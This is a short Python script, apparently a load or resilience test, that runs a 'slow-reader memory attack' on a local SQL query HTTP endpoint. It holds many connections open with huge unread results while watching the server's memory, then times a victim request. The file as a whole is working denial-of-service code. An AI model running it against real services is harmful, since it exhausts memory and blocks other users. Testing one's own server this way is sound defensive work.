# Slow-reader memory attack: each connection sends one query whose answer is ~N MB and never reads it.
import socket, json, time, sys, os, subprocess
from tv import *
port = int(os.environ.get("PORT", "28612")); pid = int(open(os.environ.get("PIDFILE","server2.pid")).read())
nconn = int(sys.argv[1]); mb = int(sys.argv[2]); stop_rss_mb = int(sys.argv[3]) if len(sys.argv)>3 else 3500
tok = mint("reader", ["alpha"], sub="slow", ttl_s=3600, win_from="2020-01-01T00:00:00Z")
def rss():
    for l in open(f"/proc/{pid}/status"):
        if l.startswith("VmRSS"): return int(l.split()[1])//1024
half = mb*1000000//2
sql = f"select repeat('x', {half}) a, repeat('y', {half}) b"
body = json.dumps({"sql": sql}).encode()
acc = "Accept: application/vnd.apache.arrow.stream\r\n" if os.environ.get("ARROW") else ""
req = (f"POST /v1/query HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {tok}\r\n{acc}Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n").encode() + body
socks = []
print("rss before", rss(), "MB")
for i in range(nconn):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.connect(("127.0.0.1", port)); s.sendall(req); socks.append(s)
    # wait for the query to finish (its slot to be freed) by polling the header arriving
    s.settimeout(60); first = s.recv(200); 
    print(i, first.split(b"\r\n")[0], "rss", rss(), "MB", flush=True)
    if rss() > stop_rss_mb: print("stopping at rss cap"); break
time.sleep(3); print("held", len(socks), "rss", rss(), "MB")
# a normal query from another reader now
other = mint("reader", ["alpha"], sub="victim", ttl_s=3600, win_from="2020-01-01T00:00:00Z")
t=time.time(); r = requests.post(f"http://127.0.0.1:{port}/v1/query", headers=h(other), json={"sql":"select 1"}); print("victim", r.status_code, round(time.time()-t,2), "s")
time.sleep(float(os.environ.get("HOLD","5")))
print("final rss", rss())
for s in socks: s.close()
time.sleep(3); print("after close rss", rss())
